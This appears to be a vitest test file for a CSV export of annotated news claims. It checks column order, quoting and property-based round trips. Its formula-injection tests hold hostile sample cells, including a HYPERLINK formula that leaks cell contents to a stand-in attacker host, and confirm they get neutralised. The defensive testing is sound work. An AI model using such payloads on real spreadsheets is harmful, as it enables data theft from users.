import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, csvHeader, csvLine, csvRows, neutralizeCell } from "./csv";
import { link, mention, mentionNeedsReview, mentionTwoQuantities, mentionTwoSpeakers } from "./test-fixtures";

/** xs[i], failing the test when there is no such element. */
function nth<T>(xs: readonly T[], i: number): T {
  const x = xs[i];
  if (x === undefined) throw new Error(`expected an element at index ${i}, found ${xs.length} elements`);
  return x;
}

/** Parses a CSV document into objects keyed by the header, as a spreadsheet or pandas would. */
function read(doc: string): Record<string, string>[] {
  return parse(doc, { columns: true, bom: true, relax_quotes: false });
}

describe("csvHeader", () => {
  it("lists the columns in order, CRLF-terminated", () => {
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(",")}\r\n`);
  });

  it("prepends a UTF-8 BOM only when asked", () => {
    expect(csvHeader({ bom: true }).startsWith("\uFEFFannotation_id,")).toBe(true);
    expect(csvHeader().startsWith("annotation_id,")).toBe(true);
  });
});

describe("csvRows", () => {
  it("writes one row per proposition link", () => {
    const m = mention({ propositions: [link(), link({ id: "other", statement: "Russia paid in oil", stance: "NEUTRAL", rating: null })] });
    const rows = read(csvHeader() + csvRows(m));
    expect(rows.map((r) => [r.proposition_id, r.stance, r.rating])).toEqual([
      [link().id, "SUPPORTS", "Unproven"],
      ["other", "NEUTRAL", ""],
    ]);
    expect(rows.every((r) => r.annotation_id === m.annotationId)).toBe(true);
  });

  it("writes one row with empty proposition columns for an unlinked claim", () => {
    const rows = read(csvHeader() + csvRows(mention({ propositions: [] })));
    expect(rows).toHaveLength(1);
    for (const c of ["stance", "proposition_id", "proposition", "verdict", "verdict_sentence", "rating"]) expect(rows[0]?.[c]).toBe("");
    expect(rows[0]?.quote).toBe(mention().exact);
  });

  it("fills every column from the record, joining lists with '; '", () => {
    const r = nth(read(csvHeader() + csvRows(mention())), 0);
    expect(r).toMatchObject({
      article_title: "Nhà Trắng: Bình Nhưỡng đã chuyển đạn pháo cho Nga",
      origins: "AFP; Reuters",
      independent_origins: "White House",
      speakers: "White House",
      speaker_types: "source",
      modality: "ALLEGED",
      date: "2023-09",
      date_value: "2023-09",
      date_precision: "month",
      quantities: "hơn 1.000 container",
      item: "đạn dược",
      actors: "Triều Tiên; Nga",
      created_at: "2024-06-20T08:15:30.000Z",
      orphaned: "",
      needs_review: "",
    });
    expect(Object.keys(r)).toEqual([...CSV_COLUMNS]);
  });

  it("lists several speakers in order, with their types in an aligned column", () => {
    const [r] = read(csvHeader() + csvRows(mentionTwoSpeakers()));
    expect(r).toMatchObject({
      speakers: "Dmitry Peskov; TASS",
      speaker_types: "entity; source",
      independent_origins: "Dmitry Peskov, for Russia; TASS, for Russia",
    });
  });

  it("writes each quantity as its value and item, and the date as written and parsed", () => {
    const [r] = read(csvHeader() + csvRows(mentionTwoQuantities()));
    expect(r).toMatchObject({ quantities: "hơn 1.000 container; 5", item: "đạn dược", date: "13/9/2023", date_value: "2023-09-13", date_precision: "day" });
  });

  it.each([
    ["needs review", mentionNeedsReview(), { needs_review: "yes", orphaned: "" }],
    ["orphaned", mention({ orphaned: true }), { needs_review: "", orphaned: "yes" }],
  ])("marks a %s claim on every one of its rows", (_, m, marks) => {
    const rows = read(csvHeader() + csvRows({ ...m, propositions: [link(), link({ id: "other" })] }));
    expect(rows).toHaveLength(2);
    for (const r of rows) expect(r).toMatchObject(marks);
  });

  it("writes empty cells for missing optional values", () => {
    const r = nth(
      read(
        csvHeader() + csvRows(mention({ articleUrl: null, publishedAt: null, publisher: null, speakers: [], note: null, fields: {}, origins: [], actors: [] })),
      ),
      0,
    );
    for (const c of [
      "article_url",
      "published_at",
      "publisher",
      "speakers",
      "speaker_types",
      "note",
      "date",
      "date_value",
      "date_precision",
      "quantities",
      "item",
      "origins",
      "actors",
      "orphaned",
      "needs_review",
    ])
      expect(r[c]).toBe("");
  });
});

describe("spreadsheet formula injection", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', true],
    ["+1", true],
    ["-2", true],
    ["@SUM(A1:A9)", true],
    ["\tindented", true],
    ["\rreturn", true],
    ["a = b + c", false],
    ["'already quoted", false],
    ['Kim nói: "đại thắng", rồi -- hết', false],
    ["", false],
  ])("%j neutralised: %s", (value, dangerous) => {
    expect(neutralizeCell(value)).toBe(dangerous ? `'${value}` : value);
  });

  it("round-trips neutralised and awkward values through csv-parse", () => {
    const hostile = {
      articleTitle: '=HYPERLINK("http://evil.example","x")',
      exact: 'Ông nói: "5, 6, hay 7", rồi\nxuống dòng\r\nvà "hết"',
      note: "+1",
      speakers: [
        { name: "@SUM(A1)", type: "entity" as const, kind: null },
        { name: "=evil", type: "source" as const, kind: null },
      ],
      independentOrigins: ["+Kim, for North Korea"],
      fields: { quantities: [{ value: "-2", item: "xe" }, { value: "=1+1" }], date: "=NOW()", dateValue: "2023-09-13", item: "đạn, pháo" },
      actors: ["-Nga", "Triều Tiên"],
    };
    const doc = csvHeader({ bom: true }) + csvRows(mention(hostile)) + csvRows(mention({ annotationId: "second" }));
    const rows = read(doc);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      article_title: `'${hostile.articleTitle}`,
      quote: hostile.exact,
      note: "'+1",
      speakers: "'@SUM(A1); =evil",
      speaker_types: "entity; source",
      independent_origins: "'+Kim, for North Korea",
      quantities: "'-2 xe; =1+1",
      date: "'=NOW()",
      date_value: "2023-09-13",
      item: "đạn, pháo",
      actors: "'-Nga; Triều Tiên",
    });
    expect(rows[1]?.annotation_id).toBe("second");
  });

  it("quotes a value containing a bare line feed so line-based readers keep the row whole", () => {
    const chunk = csvRows(mention({ exact: "dòng một\ndòng hai", note: null, propositions: [] }));
    expect(chunk).toContain('"dòng một\ndòng hai"');
    expect(chunk.endsWith("\r\n")).toBe(true);
    expect(chunk.split("\r\n")).toHaveLength(2);
  });
});

describe("csvLine", () => {
  // The writer csvLine replaced, with the options the export used: its files must not change.
  const csvStringify = (cells: string[]) => stringify([cells.map(neutralizeCell)], { record_delimiter: "windows", quoted_match: /[\r\n]/ });
  const cell = fc.oneof(
    fc.string({ unit: fc.constantFrom("a", " ", ",", '"', "\r", "\n", "=", "-", "+", "@", "\t", "'", "é", ";") }),
    fc.string({ unit: "grapheme" }),
  );

  it("writes what csv-stringify wrote, for any cells", () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        expect(csvLine(cells)).toBe(csvStringify(cells));
      }),
      { numRuns: 2000 },
    );
  });

  it("reads back as the cells it was given (formula triggers aside)", () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 6 }), (cells) => {
        expect(parse(csvLine(cells), { relax_quotes: false })).toEqual([cells.map(neutralizeCell)]);
      }),
    );
  });
});
